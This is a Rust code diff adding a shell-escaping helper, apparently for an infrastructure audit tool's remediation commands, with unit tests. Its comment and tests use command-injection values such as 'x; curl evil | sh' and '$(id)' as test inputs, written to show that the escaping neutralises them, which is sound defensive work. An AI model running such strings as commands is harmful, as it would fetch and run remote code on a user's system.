@@ -249,3 +249,34 @@ pub fn admits_https(rule: &IngressRule) -> bool {
     let has_source = !rule.cidr_blocks.is_empty() || !rule.source_group_ids.is_empty();
     protocol_ok && port_ok && has_source
 }
+
+/// A value from the snapshot as one word of a POSIX shell command in a remediation: left as it
+/// is when it holds only characters no shell treats specially, else single-quoted (a `'`
+/// inside becomes `'\''`). A user or quota name set by someone else must not turn a
+/// copied command into another one (`x; curl evil | sh`). Every rule that puts snapshot text
+/// into a command goes through here.
+pub fn shell_word(text: &str) -> std::borrow::Cow<'_, str> {
+    let plain = !text.is_empty()
+        && text
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || "_@%+=:,./-".contains(c));
+    if plain {
+        std::borrow::Cow::Borrowed(text)
+    } else {
+        std::borrow::Cow::Owned(format!("'{}'", text.replace('\'', "'\\''")))
+    }
+}
+
+#[cfg(test)]
+mod shell_word_tests {
+    use super::shell_word;
+
+    #[test]
+    fn plain_words_stay_and_anything_else_is_single_quoted() {
+        assert_eq!(shell_word("L-1234ABCD"), "L-1234ABCD");
+        assert_eq!(shell_word("dev.user@example.com"), "dev.user@example.com");
+        assert_eq!(shell_word("x; curl evil | sh"), "'x; curl evil | sh'");
+        assert_eq!(shell_word("it's $(id)"), "'it'\\''s $(id)'");
+        assert_eq!(shell_word(""), "''");
+    }
+}
